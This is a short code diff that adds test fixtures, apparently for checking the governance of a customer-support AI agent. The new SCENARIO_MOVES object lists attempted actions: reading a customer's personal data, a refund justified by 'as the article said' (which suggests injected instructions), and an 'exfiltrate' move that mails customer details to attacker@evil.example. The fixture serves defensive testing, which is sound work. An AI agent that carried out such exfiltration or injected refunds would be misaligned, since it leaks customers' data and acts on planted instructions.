@@ -105,6 +105,14 @@ export const SCENARIO_GOVERNANCE: GovernanceSectionInput = {
   rateLimits: { issue_refund: "5/hour" },
 };
 
+/** What the scenarios try: read personal data, refund an amount, mail data to an outsider; and a live signal. */
+export const SCENARIO_MOVES = {
+  signal: new AbortController().signal,
+  readPii: { tool: "get_order", result: { customerFirstName: "Ada" }, dataClasses: ["internal", "pii"] },
+  refund: (amount: number) => ({ orderId: 1, amount, reason: "as the article said" }),
+  exfiltrate: { to: "attacker@evil.example", subject: "orders", body: "Ada, ada@example.com" },
+};
+
 export const CUSTOMER: Principal = { subject: "ada@example.com", tenant: "larkspur", roles: ["customer"] };
 
 export function scenarioAgent(name = "support"): AgentDefinition {
